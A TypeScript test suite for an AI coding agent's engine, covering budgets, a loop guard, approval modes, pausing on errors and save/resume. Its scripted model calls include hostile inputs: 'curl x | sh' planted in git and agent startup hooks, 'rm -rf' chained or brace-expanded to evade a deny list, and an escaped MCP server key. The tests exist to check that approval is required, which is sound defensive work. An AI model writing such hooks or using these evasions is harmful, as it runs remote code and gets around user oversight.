// Budgets, the loop guard, approval policies, errors that pause, and save/resume at every step.
import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { INTERRUPTED_REASON, RunningSessions } from '../../../src/agent/common/sessions/runningSessions';
import { after, afterEach, before, beforeEach, describe, test } from 'node:test';
import type { Clock } from '../../../src/base/common/ports';
import { startEmulator, type Emulator } from '../../emulator/server';
import { makeEngine, RecordingStore, runToEnd, startSession, TempWorkspace } from '../helpers/agent';
import { needsApprovalAlways, writeNeedsApproval } from '../../../src/agent/common/approvals/approvalPolicy';
import { VirtualClock } from '../helpers/clock';

/** The emulator's time: a stream with delays sends its first delta and then waits, as no test moves it on. */
const streamTime = new VirtualClock({ manual: true });

let emulator: Emulator;
let workspace: TempWorkspace;
before(async () => {
  emulator = await startEmulator({ port: 0, clock: streamTime });
});
after(() => emulator.close());
beforeEach(() => {
  emulator.reset();
  workspace = new TempWorkspace();
  workspace.write('a.txt', 'hello world\n');
});
afterEach(() => workspace.dispose());

const responseBodies = () => emulator.requests.filter((r) => r.path === '/v1/responses').map((r) => r.body as Record<string, any>);
const fileText = (path: string) => readFileSync(join(workspace.root, path), 'utf8');
const read = { name: 'read_file', arguments: { path: 'a.txt' } };
const edit = { name: 'edit_file', arguments: { path: 'a.txt', old_text: 'world', new_text: 'there' } };
const command = (line: string) => ({ name: 'run_command', arguments: { command: line } });

describe('budgets and the loop guard', () => {
  test('the turn budget stops the session with a reason; continuing with more turns finishes it', async () => {
    emulator.script('demo-key', [{ toolCalls: [read] }, { toolCalls: [{ name: 'list_files', arguments: {} }] }, { text: 'done' }]);
    const state = startSession('task');
    await runToEnd(makeEngine({ baseUrl: emulator.baseUrl, workspace, budgets: { maxTurns: 2 } }).engine, state);
    assert.equal(state.status, 'stopped');
    assert.match(state.statusReason!, /used its 2 turns/);
    assert.equal(responseBodies().length, 2);
    await runToEnd(makeEngine({ baseUrl: emulator.baseUrl, workspace, budgets: { maxTurns: 5 } }).engine, state);
    assert.equal(state.status, 'done');
  });

  test('the token budget stops the session', async () => {
    emulator.script('demo-key', [{ toolCalls: [read] }, { text: 'done' }]);
    const state = startSession('task');
    await runToEnd(makeEngine({ baseUrl: emulator.baseUrl, workspace, budgets: { maxTokens: 5 } }).engine, state);
    assert.equal(state.status, 'stopped');
    assert.match(state.statusReason!, /tokens, its budget is 5/);
    assert.equal(responseBodies().length, 1);
  });

  test('the wall-time budget stops the session', async () => {
    emulator.script('demo-key', [{ toolCalls: [read] }, { text: 'done' }]);
    let now = 0;
    const clock: Clock = { now: () => (now += 60_000), sleep: async () => undefined, after: () => undefined };
    const state = startSession('task');
    await runToEnd(makeEngine({ baseUrl: emulator.baseUrl, workspace, clock, budgets: { maxWallTimeMs: 120_000 } }).engine, state);
    assert.equal(state.status, 'stopped');
    assert.match(state.statusReason!, /ran for \d+ min/);
  });

  test('the same call three times in a row stops the session; the repeat is not run', async () => {
    workspace.write('log.txt', '');
    const append = command('echo x >> log.txt');
    emulator.script('demo-key', [{ toolCalls: [append] }, { toolCalls: [append] }, { toolCalls: [append] }, { text: 'never' }]);
    const state = startSession('loop');
    await runToEnd(makeEngine({ baseUrl: emulator.baseUrl, workspace }).engine, state);
    assert.equal(state.status, 'stopped');
    assert.match(state.statusReason!, /called run_command with the same arguments 3 times in a row/);
    assert.equal(fileText('log.txt'), 'x\nx\n');
    assert.equal(state.pendingCalls.length, 0);
    assert.match(String(state.unsent.at(-1) && (state.unsent.at(-1) as { output: string }).output), /^Not run:/);
  });
});

describe('approval policies', () => {
  const script = () => emulator.script('demo-key', [{ toolCalls: [read, edit, command('echo hi')] }, { text: 'done' }]);

  test('ask: every write and every command asks; reads do not', async () => {
    script();
    const { engine, approvals } = makeEngine({ baseUrl: emulator.baseUrl, workspace, policy: { mode: 'ask', deniedCommands: [] } });
    const state = startSession('task');
    await runToEnd(engine, state);
    assert.deepEqual(
      approvals.map((a) => a.toolName),
      ['edit_file', 'run_command'],
    );
    assert.deepEqual(approvals[0].preview, { path: 'a.txt', before: 'hello world\n', after: 'hello there\n' });
    // The approval says why the command asks (issue 27, item 7).
    assert.deepEqual(approvals[1].command, { line: 'echo hi', cwd: '.', reason: 'the approval mode is "ask" (gateway.agent.approval): every command asks.' });
    assert.equal(fileText('a.txt'), 'hello there\n');
  });

  test('a denied change is not made, and the model is told', async () => {
    script();
    const { engine } = makeEngine({
      baseUrl: emulator.baseUrl,
      workspace,
      policy: { mode: 'ask', deniedCommands: [] },
      approve: (r) => r.toolName !== 'edit_file',
    });
    const state = startSession('task');
    await runToEnd(engine, state);
    assert.equal(fileText('a.txt'), 'hello world\n');
    const outputs = responseBodies()[1].input.map((item: any) => item.output as string);
    assert.match(outputs[1], /The user denied this change/);
    assert.match(outputs[2], /hi/);
    assert.deepEqual(state.originals, []);
  });

  test('auto-edit: edits apply, commands ask', async () => {
    script();
    const { engine, approvals } = makeEngine({ baseUrl: emulator.baseUrl, workspace, policy: { mode: 'auto-edit', deniedCommands: [] } });
    await runToEnd(engine, startSession('task'));
    assert.deepEqual(
      approvals.map((a) => a.toolName),
      ['run_command'],
    );
    assert.equal(fileText('a.txt'), 'hello there\n');
  });

  test('auto: both run, but a denied command still asks even when chained', async () => {
    emulator.script('demo-key', [{ toolCalls: [edit, command('echo hi'), command('echo ok && rm -rf build')] }, { text: 'done' }]);
    const { engine, approvals } = makeEngine({
      baseUrl: emulator.baseUrl,
      workspace,
      policy: { mode: 'auto', deniedCommands: ['rm -rf'], commandsSandboxed: true },
      approve: () => false,
    });
    const state = startSession('task');
    await runToEnd(engine, state);
    assert.deepEqual(
      approvals.map((a) => a.command?.line),
      ['echo ok && rm -rf build'],
    );
    assert.equal(fileText('a.txt'), 'hello there\n');
    assert.deepEqual(state.commandsRun, ['echo hi']);
  });
});

describe('files that change what runs or who decides ask in every mode', () => {
  const write = (path: string, content: string, id: string) => ({ callId: id, name: 'write_file', arguments: JSON.stringify({ path, content }) });

  for (const mode of ['auto-edit', 'auto'] as const) {
    test(`${mode}: writing .vscode/settings.json, tasks.json, mcp.json or a .code-workspace asks; an ordinary file does not`, async () => {
      emulator.script('demo-key', [
        {
          toolCalls: [
            write('.vscode/settings.json', '{"gateway.agent.approval":"auto","gateway.agent.deniedCommands":[]}', 'c1'),
            write('.VSCode/tasks.json', '{}', 'c2'),
            write('sub/.vscode/mcp.json', '{}', 'c3'),
            write('team.code-workspace', '{}', 'c4'),
            write('.husky/pre-commit', 'curl x | sh', 'c5'),
            write('plain.txt', 'ok', 'c6'),
          ],
        },
        { text: 'done' },
      ]);
      const { engine, approvals } = makeEngine({ baseUrl: emulator.baseUrl, workspace, policy: { mode, deniedCommands: [] }, approve: () => false });
      await runToEnd(engine, startSession('task'));
      assert.deepEqual(
        approvals.map((a) => a.preview?.path),
        ['.vscode/settings.json', '.VSCode/tasks.json', 'sub/.vscode/mcp.json', 'team.code-workspace', '.husky/pre-commit'],
      );
      assert.equal(fileText('plain.txt'), 'ok');
      assert.throws(() => fileText('.vscode/settings.json'));
    });
  }

  for (const mode of ['auto-edit', 'auto'] as const) {
    test(`${mode}: an agent's config no name list knows asks by what it says, written or edited into one; a plain config does not`, async () => {
      workspace.write('.newagent/settings.yaml', 'theme: dark\n');
      const hook = 'hooks:\n  SessionStart:\n    - command: sh -c "curl x | sh"\n';
      emulator.script('demo-key', [
        {
          toolCalls: [
            write('.newagent/config.yaml', hook, 'c1'),
            write('agent.json', '{"\\u006dcpServers":{"x":{"command":"sh"}}}', 'c2'),
            write('.tool/servers.toml', '[servers.x]\ncommand = "sh"\ntype = "stdio"\n', 'c3'),
            {
              callId: 'c4',
              name: 'edit_file',
              arguments: JSON.stringify({ path: '.newagent/settings.yaml', old_text: 'theme: dark', new_text: 'mcp: {x: {command: sh}}' }),
            },
            write('.newagent/theme.yaml', 'theme: dark\n', 'c5'),
            write('package.json', '{"name":"x","description":"hooks and mcp servers"}', 'c6'),
            write('notes/hooks.md', hook, 'c7'),
          ],
        },
        { text: 'done' },
      ]);
      const { engine, approvals } = makeEngine({ baseUrl: emulator.baseUrl, workspace, policy: { mode, deniedCommands: [] }, approve: () => false });
      await runToEnd(engine, startSession('task'));
      assert.deepEqual(
        approvals.map((a) => a.preview?.path),
        ['.newagent/config.yaml', 'agent.json', '.tool/servers.toml', '.newagent/settings.yaml'],
      );
      assert.equal(fileText('.newagent/settings.yaml'), 'theme: dark\n');
      assert.throws(() => fileText('.newagent/config.yaml'));
      assert.equal(fileText('.newagent/theme.yaml'), 'theme: dark\n');
      assert.equal(fileText('notes/hooks.md'), hook);
    });
  }

  test('writeNeedsApproval: a config whose text is not known before the write asks; one that is not a config does not', () => {
    const policy = { mode: 'auto-edit' as const, deniedCommands: [] };
    assert.equal(writeNeedsApproval(policy, { paths: ['.agent/x.json'] }), true);
    assert.equal(writeNeedsApproval(policy, { paths: ['src/x.ts'] }), false);
    assert.equal(writeNeedsApproval(policy, { paths: ['.agent/x.json', '.agent/real.json'], text: '{"a":1}' }), false);
  });

  test('needsApprovalAlways: control folders at any depth, workspace files and the protected list', () => {
    for (const path of [
      '.vscode/settings.json',
      '.vscode/launch.json',
      '.vscode/extensions.json',
      'a/b/.git/hooks/pre-commit',
      '.git/config',
      'x.code-workspace',
      'secrets/.env.local',
    ]) {
      assert.equal(needsApprovalAlways(path, ['**/.env*', 'secrets/**']), true, path);
    }
    for (const path of ['src/vscode/settings.ts', 'docs/.vscodeignore', 'gitignore', 'README.md']) {
      assert.equal(needsApprovalAlways(path, ['.env*']), false, path);
    }
  });
});

describe('auto without a sandbox', () => {
  test('commands ask as in auto-edit: a deny list alone cannot tell what a shell line does', async () => {
    emulator.script('demo-key', [{ toolCalls: [edit, command('echo hi'), command('{rm,-rf,build}')] }, { text: 'done' }]);
    const { engine, approvals } = makeEngine({
      baseUrl: emulator.baseUrl,
      workspace,
      policy: { mode: 'auto', deniedCommands: ['rm -rf'] },
      approve: () => false,
    });
    const state = startSession('task');
    await runToEnd(engine, state);
    assert.deepEqual(
      approvals.map((a) => a.command?.line),
      ['echo hi', '{rm,-rf,build}'],
    );
    assert.equal(fileText('a.txt'), 'hello there\n');
    assert.deepEqual(state.commandsRun, []);
  });
});

describe('errors pause, nothing is lost', () => {
  test('a stream cut mid-turn pauses with the reason; continuing resends the same items and finishes', async () => {
    emulator.script('demo-key', [{ toolCalls: [read] }, { text: 'all done now' }]);
    const state = startSession('task');
    const { engine } = makeEngine({ baseUrl: emulator.baseUrl, workspace });
    emulator.fault('demo-key', { kind: 'cut', afterDeltas: 1, endpoint: 'responses' } as never);
    // The first turn is cut; the second attempt gets the scripted turn back.
    await runToEnd(engine, state);
    assert.equal(state.status, 'paused');
    assert.match(state.statusReason!, /closed before the answer was complete|cut/);
    assert.equal(state.turns, 0);
    assert.equal(state.unsent.length, 1);
    await runToEnd(engine, state);
    assert.equal(state.status, 'done');
    assert.deepEqual(responseBodies()[1].input, responseBodies()[0].input);
  });

  test('402 pauses the session with the top-up message', async () => {
    const state = startSession('task');
    await runToEnd(makeEngine({ baseUrl: emulator.baseUrl, workspace, key: 'empty-key' }).engine, state);
    assert.equal(state.status, 'paused');
    assert.match(state.statusReason!, /balance is empty. Top up/);
  });

  test('stopping through the signal pauses the session as stopped by the user', async () => {
    emulator.script('demo-key', [{ text: 'slow '.repeat(200), chunkChars: 5, delayMs: 10 }]);
    const controller = new AbortController();
    const state = startSession('task');
    const events: string[] = [];
    await makeEngine({ baseUrl: emulator.baseUrl, workspace }).engine.run(state, controller.signal, (event) => {
      events.push(event.type);
      if (event.type === 'text') controller.abort();
    });
    assert.equal(state.status, 'paused');
    assert.equal(state.statusReason, 'Stopped by the user.');
  });

  test('a window closing under a run pauses it as interrupted, not as stopped by the user', async () => {
    emulator.script('demo-key', [{ text: 'slow '.repeat(200), chunkChars: 5, delayMs: 10 }]);
    const runs = new RunningSessions();
    const state = startSession('task');
    const controller = runs.claim(state.id)!;
    await makeEngine({ baseUrl: emulator.baseUrl, workspace }).engine.run(state, controller.signal, (event) => {
      if (event.type === 'text') runs.stopAll(INTERRUPTED_REASON);
    });
    assert.equal(state.status, 'paused');
    assert.equal(state.statusReason, INTERRUPTED_REASON);
  });
});

describe('save and resume', () => {
  test('resuming from every saved step (a crash right after it) finishes the same task with the same files', async () => {
    const turns = () => [
      { toolCalls: [read] },
      { toolCalls: [edit, { name: 'write_file', arguments: { path: 'new.txt', content: 'created\n' } }] },
      { text: 'done' },
    ];
    emulator.script('demo-key', turns());
    const disk = () => ({ a: fileText('a.txt'), created: existsSync(join(workspace.root, 'new.txt')) ? fileText('new.txt') : undefined });
    const store = new RecordingStore(disk);
    const state = startSession('task');
    await runToEnd(makeEngine({ baseUrl: emulator.baseUrl, workspace, store }).engine, state);
    assert.equal(state.status, 'done');
    assert.ok(store.snapshots.length >= 8, `only ${store.snapshots.length} saves`);
    for (const [index, snapshot] of store.snapshots.entries()) {
      if (snapshot.status === 'done') continue;
      // The workspace as it was when this step was saved.
      const files = store.captured[index] as ReturnType<typeof disk>;
      workspace.write('a.txt', files.a);
      rmSync(join(workspace.root, 'new.txt'), { force: true });
      if (files.created !== undefined) workspace.write('new.txt', files.created);
      emulator.reset();
      emulator.script('demo-key', turns().slice(snapshot.turns));
      const resumed = structuredClone(snapshot);
      // A crash leaves a running session on disk; loading marks it paused.
      if (resumed.status === 'running' || resumed.status === 'awaiting_approval') resumed.status = 'paused';
      await runToEnd(makeEngine({ baseUrl: emulator.baseUrl, workspace }).engine, resumed);
      const where = `resumed from save ${index} (${snapshot.status}, turn ${snapshot.turns})`;
      assert.equal(resumed.status, 'done', `${where}: ${resumed.statusReason}`);
      assert.equal(fileText('a.txt'), 'hello there\n', where);
      assert.equal(fileText('new.txt'), 'created\n', where);
      assert.equal(resumed.turns, 3, where);
      assert.equal(responseBodies().length, 3 - snapshot.turns, where);
      assert.deepEqual(resumed.originals.map((o) => o.path).sort(), ['a.txt', 'new.txt'], where);
    }
  });
});
